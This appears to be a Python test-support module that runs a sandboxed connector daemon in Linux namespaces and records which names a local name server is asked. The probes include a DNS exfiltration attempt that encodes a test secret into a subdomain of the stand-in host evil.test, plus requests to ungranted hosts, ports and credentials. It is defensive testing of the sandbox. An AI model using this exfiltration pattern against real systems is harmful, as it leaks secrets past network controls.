"""A whole daemon in the machine of tests/support/lab.py: one connector in a real jail tries names, and the name server counts.

`way_in` is the command that enters the namespaces and runs it, for tests/daemon/test_names_on_the_wire.py; it prints one line
of JSON. Root needs no user namespace. Any other user sets the machine up as root of one, and is then themselves again in
a second one: a jail can map only the users of the process that starts it.
"""

from __future__ import annotations

import base64
import json
import os
import sys
from pathlib import Path

from tests.support.home import daemon_home
from tests.support.lab_inside import set_up
from tests.support.nameserver import NameServer
from tests.support.upstream import Authority, Upstream, answer

REFLECTOR = "github://aileron-tests/reflector"
SOURCE = Path(__file__).parent / "connectors" / "reflector"
SECRET = b"hunter2-hunter2"


def way_in(directory: Path) -> list[str]:
    """Return the whole command line."""
    program = [sys.executable, "-m", "tests.support.lab_daemon"]
    own = ["--mount", "--net", "--propagation", "private"]
    if os.geteuid() == 0:
        return ["unshare", *own, *program, str(directory)]
    again = ["unshare", "--user", f"--map-user={os.geteuid()}", f"--map-group={os.getegid()}", *program]
    return ["unshare", "--user", "--map-root-user", *own, *program, str(directory), *again]


def enter(directory: Path, then: list[str]) -> None:
    """Set the machine up, and let every user bind port 53. Then return, or execute `then` if it is given."""
    set_up(directory)
    Path("/proc/sys/net/ipv4/ip_unprivileged_port_start").write_text("53")
    if then:
        os.execvp(then[0], [*then, str(directory), "here"])


def main(directory: Path) -> None:
    """Run every action, and print what the name server and the upstream saw."""
    authority = Authority(directory)
    zone = {"api.test": ["127.0.0.1"], "evil.test": ["127.0.0.1"]}
    tls = authority.server_context("api.test")
    with NameServer(zone, 53) as server, Upstream(lambda _seen: answer(b"ok"), tls) as upstream, daemon_home() as home:
        granted = f"api.test:{upstream.port}"
        home.reach(granted, f"evil.test:{upstream.port}", ca_file=authority.ca_file)
        home.install(SOURCE, granted)
        home.unlock(SECRET)
        home.bind(REFLECTOR, "basic/probe/me", username="mira")
        home.add_probe_action("ask", "url:string?", "credential:string?", connector=REFLECTOR)
        home.add_probe_action("look_up", "name:string", connector=REFLECTOR)
        leaky = base64.b32encode(SECRET).decode().strip("=").lower()
        seen = {}
        for what, action, args in (
            ("another host", "ask", {"url": f"https://evil.test:{upstream.port}/"}),
            ("data in a name", "ask", {"url": f"https://{leaky}.evil.test:{upstream.port}/"}),
            ("below the granted host", "ask", {"url": f"https://x.{granted}/"}),
            ("another port", "ask", {"url": "https://api.test/"}),
            ("another credential", "ask", {"url": f"https://{granted}/", "credential": "oauth2"}),
            ("from inside the jail", "look_up", {"name": "evil.test"}),
            ("the granted host", "ask", {"url": f"https://{granted}/"}),
        ):
            server.asked.clear()
            got = home.run(action, args)
            error = got.body.get("error", {})
            seen[what] = {
                "asked": sorted(set(server.asked)),
                "class": error.get("class"),
                "reason": error.get("details", {}).get("reason"),
                "result": got.body.get("result"),
                "connections": upstream.connections,
            }
        print(json.dumps(seen))


if __name__ == "__main__":
    if sys.argv[2:] != ["here"]:
        enter(Path(sys.argv[1]), sys.argv[2:])
    main(Path(sys.argv[1]))
